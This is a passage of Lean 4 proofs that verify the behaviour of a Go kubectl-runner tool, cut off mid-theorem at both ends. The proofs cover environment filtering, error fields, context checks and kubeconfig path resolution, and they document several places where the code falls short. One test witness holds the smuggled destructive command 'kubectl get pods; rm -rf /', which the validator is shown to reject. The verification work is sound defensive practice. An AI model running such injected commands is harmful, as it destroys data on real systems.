  | nil => exact ⟨_, rfl⟩
  | other n => exact ⟨_, rfl⟩
  | str k =>
    have hkk := hk k hkc
    subst hkk
    cases hwd : ctx.workdir with
    | nil => exact ⟨_, rfl⟩
    | other n => exact ⟨_, rfl⟩
    | str wd =>
      dsimp only
      cases hl : List.lookup "command".toList args with
      | none => exact ⟨_, rfl⟩
      | some v =>
        cases v with
        | nil => exact ⟨_, rfl⟩
        | other n => exact ⟨_, rfl⟩
        | str c =>
          dsimp only
          cases hv : ValidateKubectlCommand c with
          | some e => exact ⟨_, rfl⟩
          | none => exact run_some_of_resolved w c wd k h

theorem removeEnvVarGo_keep (pre e : GoString) (env : List GoString) (result : GoSlice)
    (he : HasPrefix e pre = false) :
    removeEnvVarGo pre (e :: env) result = removeEnvVarGo pre env (sliceAppend result e) := by
  rw [removeEnvVarGo]
  simp [he]

theorem removeEnvVarGo_drop (pre e : GoString) (env : List GoString) (result : GoSlice)
    (he : HasPrefix e pre = true) :
    removeEnvVarGo pre (e :: env) result = removeEnvVarGo pre env result := by
  rw [removeEnvVarGo]
  simp [he]

theorem filter_keep (pre e : GoString) (env : List GoString) (he : HasPrefix e pre = false) :
    List.filter (fun e => !HasPrefix e pre) (e :: env) =
      e :: List.filter (fun e => !HasPrefix e pre) env := by
  simp [List.filter_cons, he]

theorem filter_drop (pre e : GoString) (env : List GoString) (he : HasPrefix e pre = true) :
    List.filter (fun e => !HasPrefix e pre) (e :: env) =
      List.filter (fun e => !HasPrefix e pre) env := by
  simp [List.filter_cons, he]

/-- A loop that has kept an entry returns a non-nil slice: the entries kept
before, then those kept from the rest. -/
theorem removeEnvVarGo_of_some (pre : GoString) : ∀ (env l : List GoString),
    removeEnvVarGo pre env (some l) = some (l ++ env.filter (fun e => !HasPrefix e pre))
  | [], l => by simp [removeEnvVarGo]
  | e :: env, l => by
    cases he : HasPrefix e pre with
    | true =>
      rw [removeEnvVarGo_drop pre e env _ he, filter_drop pre e env he,
        removeEnvVarGo_of_some pre env l]
    | false =>
      rw [removeEnvVarGo_keep pre e env _ he, filter_keep pre e env he]
      show removeEnvVarGo pre env (some (l ++ [e])) = _
      rw [removeEnvVarGo_of_some pre env (l ++ [e]), List.append_assoc]
      rfl

/-- The loop returns the nil slice exactly when it keeps no entry. -/
theorem removeEnvVarGo_none (pre : GoString) : ∀ (env : List GoString),
    removeEnvVarGo pre env none =
      if env.filter (fun e => !HasPrefix e pre) = [] then none
      else some (env.filter (fun e => !HasPrefix e pre))
  | [] => rfl
  | e :: env => by
    cases he : HasPrefix e pre with
    | true =>
      rw [removeEnvVarGo_drop pre e env _ he, filter_drop pre e env he]
      exact removeEnvVarGo_none pre env
    | false =>
      rw [removeEnvVarGo_keep pre e env _ he, filter_keep pre e env he,
        if_neg (List.cons_ne_nil _ _)]
      show removeEnvVarGo pre env (some ([] ++ [e])) = _
      rw [removeEnvVarGo_of_some pre env ([] ++ [e])]
      rfl

theorem removeEnvVar_eq (env : List GoString) (key : GoString) :
    removeEnvVar env key =
      if env.filter (fun e => !HasPrefix e (key ++ "=".toList)) = [] then none
      else some (env.filter (fun e => !HasPrefix e (key ++ "=".toList))) :=
  removeEnvVarGo_none _ env

/-- The environment of the child process, as the code builds it: with a
kubeconfig, the kept entries and the one `KUBECONFIG` entry; without one, the
kept entries when there are any, and otherwise, the slice being nil, the
whole environment of the current process. -/
theorem childEnviron_of_build (w : World) (c wd k : GoString) (cmd : Cmd)
    (h : buildCommand w c wd k = .ok cmd) :
    childEnviron w cmd =
      if k = [] then
        (if w.environ.filter (fun e => !HasPrefix e "KUBECONFIG=".toList) = [] then w.environ
         else w.environ.filter (fun e => !HasPrefix e "KUBECONFIG=".toList))
      else
        match ValidateKubeconfigPath w k with
        | .ok p =>
          w.environ.filter (fun e => !HasPrefix e "KUBECONFIG=".toList) ++
            ["KUBECONFIG=".toList ++ p]
        | .error _ => [] := by
  have hrem := removeEnvVar_eq w.environ "KUBECONFIG".toList
  have hpre : "KUBECONFIG".toList ++ "=".toList = "KUBECONFIG=".toList := rfl
  rw [hpre] at hrem
  unfold buildCommand at h
  by_cases hk : k ≠ []
  · simp only [if_pos hk] at h
    rw [if_neg hk]
    cases hp : ValidateKubeconfigPath w k with
    | error e => rw [hp] at h; cases h
    | ok p =>
      rw [hp] at h
      cases h
      unfold childEnviron sliceAppend
      dsimp only
      rw [hrem]
      split_ifs with hf
      · rw [hf]; rfl
      · rfl
  · simp only [if_neg hk] at h
    rw [if_pos (not_not.1 hk)]
    cases h
    unfold childEnviron
    dsimp only
    rw [hrem]
    split_ifs with hf
    · rfl
    · rfl

/-- C18 (the code falls short): when the environment of the process is just
`KUBECONFIG=/etc/old` and no kubeconfig is given, `removeEnvVar` keeps no
entry and returns the nil slice, nothing is appended, `cmd.Env` stays nil,
and the child process of `kubectl get pods` is started with the environment
of the process, `KUBECONFIG=/etc/old` included, although the claim wants no
`KUBECONFIG=` entry to survive. -/
theorem C18_nil_environment_keeps_parent_kubeconfig :
    ValidateKubectlCommand "kubectl get pods".toList = none ∧
    IsInteractiveCommand "kubectl get pods".toList = (false, none) ∧
    removeEnvVar kubeconfigOnlyWorld.environ "KUBECONFIG".toList = none ∧
    buildCommand kubeconfigOnlyWorld "kubectl get pods".toList "/tmp".toList [] =
      .ok { Args := ["/usr/bin/bash", "-c", "kubectl get pods"].map String.toList,
            Env := none, Dir := "/tmp".toList } ∧
    childEnviron kubeconfigOnlyWorld
        { Args := ["/usr/bin/bash", "-c", "kubectl get pods"].map String.toList,
          Env := none, Dir := "/tmp".toList } =
      ["KUBECONFIG=/etc/old".toList] ∧
    RunKubectlCommand kubeconfigOnlyWorld "kubectl get pods".toList "/tmp".toList [] =
      executeCommand kubeconfigOnlyWorld
        { Args := ["/usr/bin/bash", "-c", "kubectl get pods"].map String.toList,
          Env := none, Dir := "/tmp".toList } :=
  ⟨by decide, by decide, by decide, rfl, by decide, by decide⟩

theorem executeCommand_interactive (w : World) (cmd : Cmd)
    (h : IsInteractiveCommand (Join cmd.Args " ".toList) = (true, some interactiveError)) :
    executeCommand w cmd =
      (some { Command := Join cmd.Args " ".toList, Error := interactiveError }, none) := by
  unfold executeCommand
  dsimp only
  rw [h]
  rfl

theorem executeCommand_success (w : World) (cmd : Cmd)
    (h : IsInteractiveCommand (Join cmd.Args " ".toList) = (false, none))
    (ho : (w.combinedOutput cmd).2 = none) :
    executeCommand w cmd =
      (some { Command := Join cmd.Args " ".toList, Stdout := (w.combinedOutput cmd).1 },
        none) := by
  unfold executeCommand
  dsimp only
  rw [h]
  dsimp only
  rw [ho]

theorem executeCommand_failure (w : World) (cmd : Cmd) (e : RunError)
    (h : IsInteractiveCommand (Join cmd.Args " ".toList) = (false, none))
    (ho : (w.combinedOutput cmd).2 = some e) :
    ∃ r, executeCommand w cmd = (some r, none) ∧ r.Error = e.message ∧
      r.ExitCode = e.exitCode.getD 0 ∧ r.Stdout = (w.combinedOutput cmd).1 := by
  unfold executeCommand
  dsimp only
  rw [h]
  dsimp only
  rw [ho]
  dsimp only
  cases e.exitCode with
  | none => exact ⟨_, rfl, rfl, rfl, rfl⟩
  | some n => exact ⟨_, rfl, rfl, rfl, rfl⟩

theorem result_of_pair {r r2 : ExecResult} {e e2 : Option KubeconfigPathError}
    (h : (some r2, e2) = (some r, e)) : r = r2 :=
  (Option.some.inj (Prod.mk.inj h).1).symm

/-- C19: for a result `RunKubectlCommand` returns, given that the errors of
the process runner have non-empty texts, `Error` is non-empty exactly when the
command was rejected before execution (by the validator, by the
interactivity check on the command or by the one on the shell invocation
built from it) or the child process ended with an error (it could not be
started or exited non-zero).  When the child ends without error `Error` is
empty and `ExitCode` is 0; when it ends with an exit error `ExitCode` is its
exit status. -/
theorem C19_error_field_nonempty_iff_failure (w : World) (c wd k : GoString) (r : ExecResult)
    (hmsg : ∀ cmd e, (w.combinedOutput cmd).2 = some e → e.message ≠ [])
    (hr : RunKubectlCommand w c wd k = (some r, none)) :
    (r.Error ≠ [] ↔
      ((ValidateKubectlCommand c).isSome = true ∨ (IsInteractiveCommand c).1 = true ∨
        ∃ cmd, buildCommand w c wd k = .ok cmd ∧
          ((IsInteractiveCommand (Join cmd.Args " ".toList)).1 = true ∨
            ((w.combinedOutput cmd).2).isSome = true))) ∧
    (∀ cmd, ValidateKubectlCommand c = none → (IsInteractiveCommand c).1 = false →
      buildCommand w c wd k = .ok cmd →
      (IsInteractiveCommand (Join cmd.Args " ".toList)).1 = false →
      ((w.combinedOutput cmd).2 = none →
        r.Error = [] ∧ r.ExitCode = 0 ∧ r.Stdout = (w.combinedOutput cmd).1) ∧
      (∀ e n, (w.combinedOutput cmd).2 = some e → e.exitCode = some n →
        r.ExitCode = n ∧ r.Error = e.message)) := by
  cases hv : ValidateKubectlCommand c with
  | some e =>
    rw [run_of_validate_some w c wd k e hv] at hr
    have hre := result_of_pair hr
    subst hre
    refine ⟨⟨fun _ => Or.inl rfl, fun _ => by simp [String.toList]⟩, ?_⟩
    intro cmd h
    cases h
  | none =>
    rcases isInteractive_cases c with hi | hi
    · rw [run_of_interactive w c wd k hv hi] at hr
      have hre := result_of_pair hr
      subst hre
      refine ⟨⟨fun _ => Or.inr (Or.inl (by rw [hi])), fun _ => interactiveError_ne_nil⟩, ?_⟩
      intro cmd _ h
      rw [hi] at h
      cases h
    · rw [run_of_build w c wd k hv hi] at hr
      cases hb : buildCommand w c wd k with
      | error e => rw [hb] at hr; cases hr
      | ok cmd =>
        rw [hb] at hr
        have hr2 : executeCommand w cmd = (some r, none) := hr
        have hnot : ¬ ((none : Option GoString).isSome = true) := by simp
        have hci : ¬ ((IsInteractiveCommand c).1 = true) := by rw [hi]; simp
        rcases isInteractive_cases (Join cmd.Args " ".toList) with hj | hj
        · rw [executeCommand_interactive w cmd hj] at hr2
          have hre := result_of_pair hr2
          subst hre
          refine ⟨⟨fun _ => Or.inr (Or.inr ⟨cmd, rfl, Or.inl (by rw [hj])⟩),
            fun _ => interactiveError_ne_nil⟩, ?_⟩
          intro cmd2 _ _ h2 h3
          cases h2
          rw [hj] at h3
          cases h3
        · cases ho : (w.combinedOutput cmd).2 with
          | none =>
            rw [executeCommand_success w cmd hj ho] at hr2
            have hre := result_of_pair hr2
            subst hre
            refine ⟨⟨fun h => absurd rfl h, ?_⟩, ?_⟩
            · rintro (h | h | ⟨cmd2, h2, h3 | h3⟩)
              · exact absurd h hnot
              · exact absurd h hci
              · cases h2
                rw [hj] at h3
                cases h3
              · cases h2
                rw [ho] at h3
                exact absurd h3 hnot
            · intro cmd2 _ _ h2 _
              cases h2
              refine ⟨fun _ => ⟨rfl, rfl, rfl⟩, ?_⟩
              intro e n he
              rw [ho] at he
              cases he
          | some e =>
            obtain ⟨r2, h1, h2, h3, h4⟩ := executeCommand_failure w cmd e hj ho
            rw [h1] at hr2
            have hre := result_of_pair hr2
            subst hre
            refine ⟨⟨fun _ => Or.inr (Or.inr ⟨cmd, rfl, Or.inr (by rw [ho]; rfl)⟩),
              fun _ => by rw [h2]; exact hmsg cmd e ho⟩, ?_⟩
            intro cmd2 _ _ hb2 _
            cases hb2
            refine ⟨fun hn => (by rw [ho] at hn; cases hn), ?_⟩
            intro e2 n he hn
            rw [ho] at he
            cases he
            rw [h3, hn]
            exact ⟨rfl, h2⟩

theorem C19_error_field_nonempty_iff_failure_witness :
    RunKubectlCommand failingWorld "kubectl get pods".toList "/tmp".toList [] =
      (some { Command := "/usr/bin/bash -c kubectl get pods".toList,
              Error := "exit status 1".toList, Stdout := "boom".toList, ExitCode := 1 },
        none) ∧
    ("exit status 1".toList ≠ [] ↔
      ((ValidateKubectlCommand "kubectl get pods".toList).isSome = true ∨
        (IsInteractiveCommand "kubectl get pods".toList).1 = true ∨
        ∃ cmd, buildCommand failingWorld "kubectl get pods".toList "/tmp".toList [] = .ok cmd ∧
          ((IsInteractiveCommand (Join cmd.Args " ".toList)).1 = true ∨
            ((failingWorld.combinedOutput cmd).2).isSome = true))) :=
  ⟨by decide,
    (C19_error_field_nonempty_iff_failure failingWorld "kubectl get pods".toList "/tmp".toList []
      { Command := "/usr/bin/bash -c kubectl get pods".toList,
        Error := "exit status 1".toList, Stdout := "boom".toList, ExitCode := 1 }
      (fun cmd e he => by
        have : e = { message := "exit status 1".toList, exitCode := some 1 } :=
          (Option.some.inj he).symm
        subst this
        decide)
      (by decide)).1⟩

/-- C20: called with a context that carries string values for kubeconfig and
workdir and with a string `command`, `KubectlTool.Run` returns, with a nil
error, the result whose `Error` is `Security violation: ` followed by the
reason whenever `ValidateKubectlCommand` rejects the command; and for a
command the validator accepts and `IsInteractiveCommand` classifies as
interactive, as `kubectl exec -it mypod -- /bin/bash` and `kubectl
port-forward pod/mypod 8080:80` are, a result whose `Error` contains
`interactive mode not supported`. -/
theorem C20_run_reports_rejection_as_result (t : KubectlTool) (w : World)
    (kubeconfig workDir command : GoString) (args : List (GoString × GoValue))
    (hargs : args.lookup "command".toList = some (.str command)) :
    (∀ r, ValidateKubectlCommand command = some r →
      KubectlTool.Run t w { kubeconfig := .str kubeconfig, workdir := .str workDir } args =
        (some { Error := "Security violation: ".toList ++ r }, none)) ∧
    (ValidateKubectlCommand command = none → (IsInteractiveCommand command).1 = true →
      ∃ res, KubectlTool.Run t w { kubeconfig := .str kubeconfig, workdir := .str workDir }
          args = (some res, none) ∧
        Contains res.Error "interactive mode not supported".toList = true) ∧
    (ValidateKubectlCommand "kubectl exec -it mypod -- /bin/bash".toList = none ∧
      (IsInteractiveCommand "kubectl exec -it mypod -- /bin/bash".toList).1 = true) ∧
    (ValidateKubectlCommand "kubectl port-forward pod/mypod 8080:80".toList = none ∧
      (IsInteractiveCommand "kubectl port-forward pod/mypod 8080:80".toList).1 = true) := by
  refine ⟨?_, ?_, by decide, by decide⟩
  · intro r hv
    unfold KubectlTool.Run
    dsimp only
    rw [hargs]
    dsimp only
    rw [hv]
  · intro hv hi
    refine ⟨{ Error := interactiveError }, ?_, by decide⟩
    unfold KubectlTool.Run
    dsimp only
    rw [hargs]
    dsimp only
    rw [hv]
    exact run_of_interactive w command workDir kubeconfig hv (isInteractive_of_flag hi)

theorem C20_run_reports_rejection_as_result_witness :
    KubectlTool.Run {} sampleWorld
        { kubeconfig := .str "/path/to/kubeconfig".toList, workdir := .str "/tmp/workdir".toList }
        [("command".toList, .str "kubectl get pods; rm -rf /".toList)] =
      (some { Error := "Security violation: ".toList ++
          "command contains potentially dangerous pattern: ;".toList }, none) :=
  (C20_run_reports_rejection_as_result {} sampleWorld "/path/to/kubeconfig".toList
    "/tmp/workdir".toList "kubectl get pods; rm -rf /".toList
    [("command".toList, .str "kubectl get pods; rm -rf /".toList)] (by decide)).1
    "command contains potentially dangerous pattern: ;".toList (by decide)

/-! ## The context checks of `KubectlTool.Run` -/

/-- C21: `KubectlTool.Run` answers with a result that carries an `Error`, and
a nil error, when the context has no kubeconfig value (`kubeconfig not
provided in context`) or one that is not a string (`kubeconfig must be a
string`), then when it has no workdir value or one that is not a string
(`workdir not provided in context`, `workdir must be a string`), then when the
argument `command` is missing or nil (`kubectl command not provided or is
nil`) or not a string (`kubectl command must be a string`); the checks come
in that order, and an empty string is a present kubeconfig. -/
theorem C21_run_checks_context_then_command (t : KubectlTool) (w : World)
    (ctx : RunContext) (args : List (GoString × GoValue)) :
    (ctx.kubeconfig = .nil →
      KubectlTool.Run t w ctx args =
        (some { Error := "kubeconfig not provided in context".toList }, none)) ∧
    (∀ n, ctx.kubeconfig = .other n →
      KubectlTool.Run t w ctx args =
        (some { Error := "kubeconfig must be a string".toList }, none)) ∧
    (∀ k, ctx.kubeconfig = .str k → ctx.workdir = .nil →
      KubectlTool.Run t w ctx args =
        (some { Error := "workdir not provided in context".toList }, none)) ∧
    (∀ k n, ctx.kubeconfig = .str k → ctx.workdir = .other n →
      KubectlTool.Run t w ctx args =
        (some { Error := "workdir must be a string".toList }, none)) ∧
    (∀ k d, ctx.kubeconfig = .str k → ctx.workdir = .str d →
      (args.lookup "command".toList = none ∨ args.lookup "command".toList = some .nil) →
      KubectlTool.Run t w ctx args =
        (some { Error := "kubectl command not provided or is nil".toList }, none)) ∧
    (∀ k d n, ctx.kubeconfig = .str k → ctx.workdir = .str d →
      args.lookup "command".toList = some (.other n) →
      KubectlTool.Run t w ctx args =
        (some { Error := "kubectl command must be a string".toList }, none)) ∧
    KubectlTool.Run t w { kubeconfig := .str [], workdir := .nil } args =
      (some { Error := "workdir not provided in context".toList }, none) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, rfl⟩
  · intro h
    unfold KubectlTool.Run
    rw [h]
  · intro n h
    unfold KubectlTool.Run
    rw [h]
  · intro k h1 h2
    unfold KubectlTool.Run
    rw [h1]
    dsimp only
    rw [h2]
  · intro k n h1 h2
    unfold KubectlTool.Run
    rw [h1]
    dsimp only
    rw [h2]
  · intro k d h1 h2 h3
    unfold KubectlTool.Run
    rw [h1]
    dsimp only
    rw [h2]
    dsimp only
    rcases h3 with h3 | h3 <;> rw [h3]
  · intro k d n h1 h2 h3
    unfold KubectlTool.Run
    rw [h1]
    dsimp only
    rw [h2]
    dsimp only
    rw [h3]

theorem C21_run_checks_context_then_command_witness :
    KubectlTool.Run {} sampleWorld { kubeconfig := .str [], workdir := .str "/tmp".toList }
        [("command".toList, .other "int".toList)] =
      (some { Error := "kubectl command must be a string".toList }, none) :=
  (C21_run_checks_context_then_command {} sampleWorld
    { kubeconfig := .str [], workdir := .str "/tmp".toList }
    [("command".toList, .other "int".toList)]).2.2.2.2.2.1 [] "/tmp".toList "int".toList
    rfl rfl (by decide)

/-! ## The path resolver -/

theorem isWindowsPath_tilde (rest : GoString) :
    isWindowsPath ("~/".toList ++ rest) = false := by
  show isWindowsPath ('~' :: '/' :: rest) = false
  unfold isWindowsPath
  rfl

theorem hasPrefix_tilde (rest : GoString) :
    HasPrefix ("~/".toList ++ rest) "~/".toList = true :=
  (hasPrefix_iff _ _).2 (List.prefix_append _ _)

/-- C22: with a non-empty `HOME`, `ValidateKubeconfigPath("")` succeeds with
`GetDefaultKubeconfigPath()`, which is `filepath.Join(HOME, ".kube",
"config")`, whatever else the environment holds (`KUBECONFIG` included);
with `HOME=/home/user` it is `/home/user/.kube/config`. -/
theorem C22_empty_input_gives_default (w : World) (h : GoString)
    (hhome : w.getenv "HOME".toList = h) (hne : h ≠ []) :
    ValidateKubeconfigPath w [] = .ok (GetDefaultKubeconfigPath w) ∧
    GetDefaultKubeconfigPath w = filepathJoin [h, ".kube".toList, "config".toList] ∧
    (h = "/home/user".toList →
      ValidateKubeconfigPath w [] = .ok "/home/user/.kube/config".toList) := by
  have hdef : GetDefaultKubeconfigPath w = filepathJoin [h, ".kube".toList, "config".toList] := by
    unfold GetDefaultKubeconfigPath
    rw [hhome, if_pos hne]
  refine ⟨rfl, hdef, ?_⟩
  intro hh
  subst hh
  show Except.ok (GetDefaultKubeconfigPath w) = _
  rw [hdef]
  rfl

theorem C22_empty_input_gives_default_witness :
    sampleWorld.getenv "HOME".toList = "/home/user".toList ∧
    sampleWorld.environ.contains "KUBECONFIG=/etc/old".toList = true ∧
    ValidateKubeconfigPath sampleWorld [] = .ok "/home/user/.kube/config".toList :=
  ⟨by decide, by decide,
    (C22_empty_input_gives_default sampleWorld "/home/user".toList (by decide)
      (by decide)).2.2 rfl⟩

/-- C23: with a non-empty `HOME`, an input `~/` followed by `rest` resolves
without error to `filepath.Join(HOME, rest)`, the references to environment
variables in `rest` left as they are; with `HOME=/home/user`, `~/.kube/custom`
gives `/home/user/.kube/custom`.  The input `~` alone is returned as it
is. -/
theorem C23_tilde_slash_is_expanded (w : World) (h rest : GoString)
    (hhome : w.getenv "HOME".toList = h) (hne : h ≠ []) :
    ValidateKubeconfigPath w ("~/".toList ++ rest) = .ok (filepathJoin [h, rest]) ∧
    (h = "/home/user".toList →
      ValidateKubeconfigPath w "~/.kube/custom".toList = .ok "/home/user/.kube/custom".toList ∧
      ValidateKubeconfigPath w "~/$HOME/cfg".toList = .ok "/home/user/$HOME/cfg".toList) ∧
    ValidateKubeconfigPath w "~".toList = .ok "~".toList := by
  have key : ∀ r : GoString,
      ValidateKubeconfigPath w ("~/".toList ++ r) = .ok (filepathJoin [h, r]) := by
    intro r
    unfold ValidateKubeconfigPath
    rw [if_neg (by simp [String.toList])]
    unfold expandPath
    simp only [isWindowsPath_tilde, Bool.and_false, Bool.false_eq_true, if_false,
      hasPrefix_tilde, if_true, hhome, if_pos hne]
    rfl
  refine ⟨key rest, ?_, ?_⟩
  · intro hh
    subst hh
    exact ⟨key ".kube/custom".toList, key "$HOME/cfg".toList⟩
  · unfold ValidateKubeconfigPath
    rw [if_neg (by decide)]
    unfold expandPath
    have h1 : isWindowsPath "~".toList = false := by decide
    have h2 : HasPrefix "~".toList "~/".toList = false := by decide
    simp only [h1, Bool.and_false, Bool.false_eq_true, if_false, h2]
    rfl

theorem C23_tilde_slash_is_expanded_witness :
    ValidateKubeconfigPath sampleWorld ("~/".toList ++ "a/../b//c".toList) =
      .ok "/home/user/b/c".toList :=
  (C23_tilde_slash_is_expanded sampleWorld "/home/user".toList "a/../b//c".toList
    (by decide) (by decide)).1

theorem isAbs_cons {p : GoString} (h : IsAbs p = true) : ∃ t, p = '/' :: t := by
  obtain ⟨t, ht⟩ := (hasPrefix_iff _ _).1 h
  exact ⟨t, ht.symm⟩

theorem isAbs_clean {p : GoString} (h : IsAbs p = true) : IsAbs (Clean p) = true := by
  unfold Clean
  have h2 : HasPrefix p "/".toList = true := h
  simp only [h2, if_true]
  exact (hasPrefix_iff _ _).2 (List.prefix_append _ _)

theorem isAbs_join_cons {h : GoString} (es : List GoString) (habs : IsAbs h = true) :
    IsAbs (Join (h :: es) "/".toList) = true := by
  obtain ⟨t, rfl⟩ := isAbs_cons habs
  cases es with
  | nil => exact habs
  | cons e es => exact (hasPrefix_iff _ _).2 ⟨t ++ "/".toList ++ Join (e :: es) "/".toList, rfl⟩

theorem isAbs_filepathJoin {h : GoString} (es : List GoString) (habs : IsAbs h = true) :
    IsAbs (filepathJoin (h :: es)) = true := by
  obtain ⟨t, rfl⟩ := isAbs_cons habs
  unfold filepathJoin
  rw [if_neg (by simp)]
  exact isAbs_clean (isAbs_join_cons es habs)

/-- C24, as stated, fails: with `HOME=/home/user` the relative input
`relative/config` is returned as it is, and that is not an absolute path. -/
theorem C24_relative_input_stays_relative :
    IsAbs (sampleWorld.getenv "HOME".toList) = true ∧
    ValidateKubeconfigPath sampleWorld "relative/config".toList =
      .ok "relative/config".toList ∧
    IsAbs "relative/config".toList = false :=
  ⟨by decide, rfl, by decide⟩

/-- C24, amended: with `HOME` set to an absolute path, `ValidateKubeconfigPath`
returns an absolute path for the empty input and for every input that
starts with `~/`.  Any other input is, outside the WSL translation, returned
as `os.ExpandEnv` leaves it, without being made absolute. -/
theorem C24_absolute_for_empty_and_tilde (w : World) (h : GoString)
    (hhome : w.getenv "HOME".toList = h) (habs : IsAbs h = true) :
    (∃ p, ValidateKubeconfigPath w [] = .ok p ∧ IsAbs p = true) ∧
    (∀ rest, ∃ p, ValidateKubeconfigPath w ("~/".toList ++ rest) = .ok p ∧ IsAbs p = true) ∧
    (∀ path, path ≠ [] → isWSL w = false → HasPrefix path "~/".toList = false →
      ValidateKubeconfigPath w path = .ok (ExpandEnv w path)) := by
  have hne : h ≠ [] := by
    obtain ⟨t, rfl⟩ := isAbs_cons habs
    simp
  refine ⟨⟨GetDefaultKubeconfigPath w, rfl, ?_⟩, ?_, ?_⟩
  · have hdef : GetDefaultKubeconfigPath w =
        filepathJoin [h, ".kube".toList, "config".toList] := by
      unfold GetDefaultKubeconfigPath
      rw [hhome, if_pos hne]
    rw [hdef]
    exact isAbs_filepathJoin _ habs
  · intro rest
    refine ⟨filepathJoin [h, rest], ?_, isAbs_filepathJoin _ habs⟩
    unfold ValidateKubeconfigPath
    rw [if_neg (by simp [String.toList])]
    unfold expandPath
    simp only [isWindowsPath_tilde, Bool.and_false, Bool.false_eq_true, if_false,
      hasPrefix_tilde, if_true, hhome, if_pos hne]
    rfl
  · intro path hp hwsl htilde
    unfold ValidateKubeconfigPath
    have hpe : ¬ (path.isEmpty = true) := by
      cases path with
      | nil => exact absurd rfl hp
      | cons a t => simp
    rw [if_neg hpe]
    unfold expandPath
    simp only [hwsl, Bool.false_and, Bool.false_eq_true, if_false, htilde]

theorem C24_absolute_for_empty_and_tilde_witness :
    IsAbs "/home/user".toList = true ∧
    ∃ p, ValidateKubeconfigPath sampleWorld ("~/".toList ++ ".kube/custom".toList) = .ok p ∧
      IsAbs p = true :=
  ⟨by decide,
    (C24_absolute_for_empty_and_tilde sampleWorld "/home/user".toList (by decide)
      (by decide)).2.1 ".kube/custom".toList⟩

/-! ### `strings.ReplaceAll` with a one-rune `old` -/

theorem hasPrefix_single (c x : Char) (t : GoString) :
    HasPrefix (c :: t) [x] = true ↔ x = c := by
  rw [hasPrefix_iff]
  constructor
  · rintro ⟨r, hr⟩
    exact (List.cons.inj hr).1
  · intro h
    subst h
    exact ⟨t, rfl⟩

theorem index_single_none (x : Char) : ∀ (s : GoString), Index s [x] = none → x ∉ s
  | [], _ => by simp
  | c :: t, h => by
    unfold Index at h
    by_cases hc : HasPrefix (c :: t) [x] = true
    · rw [if_pos hc] at h; cases h
    · rw [if_neg hc] at h
      have ht : Index t [x] = none := by
        cases hi : Index t [x] with
        | none => rfl
        | some k => rw [hi] at h; cases h
      have hne : x ≠ c := fun h2 => hc ((hasPrefix_single c x t).2 h2)
      intro hm
      rcases List.mem_cons.1 hm with h3 | h3
      · exact hne h3
      · exact index_single_none x t ht h3

theorem index_single_some (x : Char) : ∀ (s : GoString) (m : Nat), Index s [x] = some m →
    x ∉ s.take m ∧ s = s.take m ++ x :: s.drop (m + 1)
  | [], m, h => by simp [Index] at h
  | c :: t, m, h => by
    unfold Index at h
    by_cases hc : HasPrefix (c :: t) [x] = true
    · rw [if_pos hc] at h
      cases h
      have := (hasPrefix_single c x t).1 hc
      subst this
      simp
    · rw [if_neg hc] at h
      cases hi : Index t [x] with
      | none => rw [hi] at h; cases h
      | some k =>
        rw [hi] at h
        cases h
        obtain ⟨h1, h2⟩ := index_single_some x t k hi
        have hne : x ≠ c := fun h3 => hc ((hasPrefix_single c x t).2 h3)
        refine ⟨?_, ?_⟩
        · rw [List.take_succ_cons]
          intro hm
          rcases List.mem_cons.1 hm with h3 | h3
          · exact hne h3
          · exact h1 h3
        · rw [List.take_succ_cons, List.drop_succ_cons, List.cons_append]
          exact congrArg (c :: ·) h2

theorem map_replace_of_not_mem (x y : Char) : ∀ (s : GoString), x ∉ s →
    s.map (fun c => if c = x then y else c) = s
  | [], _ => rfl
  | c :: t, h => by
    have hc : c ≠ x := fun h2 => h (h2 ▸ List.mem_cons_self _ _)
    have ht : x ∉ t := fun h2 => h (List.mem_cons_of_mem _ h2)
    rw [List.map_cons, if_neg hc, map_replace_of_not_mem x y t ht]

theorem join_cons_of_ne_nil (a sep : GoString) (l : List GoString) (hl : l ≠ []) :
    Join (a :: l) sep = a ++ sep ++ Join l sep := by
  cases l with
  | nil => exact absurd rfl hl
  | cons b l => rfl

theorem join_splitGo_single (x y : Char) : ∀ (n : Nat) (s : GoString), s.length ≤ n →
    Join (splitGo n s [x]) [y] = s.map (fun c => if c = x then y else c)
  | 0, s, h => by
    have : s = [] := List.length_eq_zero.1 (Nat.le_zero.1 h)
    subst this
    rfl
  | n + 1, s, h => by
    unfold splitGo
    cases hi : Index s [x] with
    | none =>
      show s = _
      rw [map_replace_of_not_mem x y s (index_single_none x s hi)]
    | some m =>
      obtain ⟨h1, h2⟩ := index_single_some x s m hi
      have hlen : (s.drop (m + 1)).length ≤ n := by
        have := congrArg List.length h2
        simp only [List.length_append, List.length_cons] at this
        omega
      have ih := join_splitGo_single x y n (s.drop (m + 1)) hlen
      obtain ⟨a, rest, hsp, -⟩ := splitGo_head [x] n (s.drop (m + 1))
      show Join (s.take m :: splitGo n (s.drop (m + [x].length)) [x]) [y] = _
      have h1len : m + [x].length = m + 1 := rfl
      rw [h1len, join_cons_of_ne_nil _ _ _ (by rw [hsp]; simp), ih]
      conv_rhs => rw [h2]
      rw [List.map_append, List.map_cons, if_pos rfl, map_replace_of_not_mem x y _ h1]
      simp

theorem replaceAll_single (s : GoString) (x y : Char) :
    ReplaceAll s [x] [y] = s.map (fun c => if c = x then y else c) :=
  join_splitGo_single x y s.length s (Nat.le_refl _)

theorem toLowerRune_letter (a : Char)
    (h : (65 ≤ a.toNat ∧ a.toNat ≤ 90) ∨ (97 ≤ a.toNat ∧ a.toNat ≤ 122)) :
    97 ≤ (toLowerRune a).toNat ∧ (toLowerRune a).toNat ≤ 122 := by
  unfold toLowerRune
  rcases h with h | h
  · rw [if_pos h]
    obtain ⟨h1, h2⟩ := h
    generalize a.toNat = n at *
    interval_cases n <;> decide
  · have h0 : ¬ (65 ≤ a.toNat ∧ a.toNat ≤ 90) := by omega
    have h1 : ¬ a.toNat = 0x130 := by omega
    have h2 : ¬ a.toNat = 0x212A := by omega
    rw [if_neg h0, if_neg h1, if_neg h2]
    exact h

/-- C25, as stated, fails: `C:cfg` is a drive-letter path for `isWindowsPath`,
its remainder `cfg` holds no `/.kube/`, and `convertWindowsPathToWSL` returns
`/mnt/ccfg`, which does not start with `/mnt/c/`: the drive and the remainder
are put together with no separator between them. -/
theorem C25_drive_relative_path_gets_no_separator :
    isWindowsPath "C:cfg".toList = true ∧
    Contains (ReplaceAll "cfg".toList "\\".toList "/".toList) "/.kube/".toList = false ∧
    convertWindowsPathToWSL sampleWorld "C:cfg".toList = "/mnt/ccfg".toList ∧
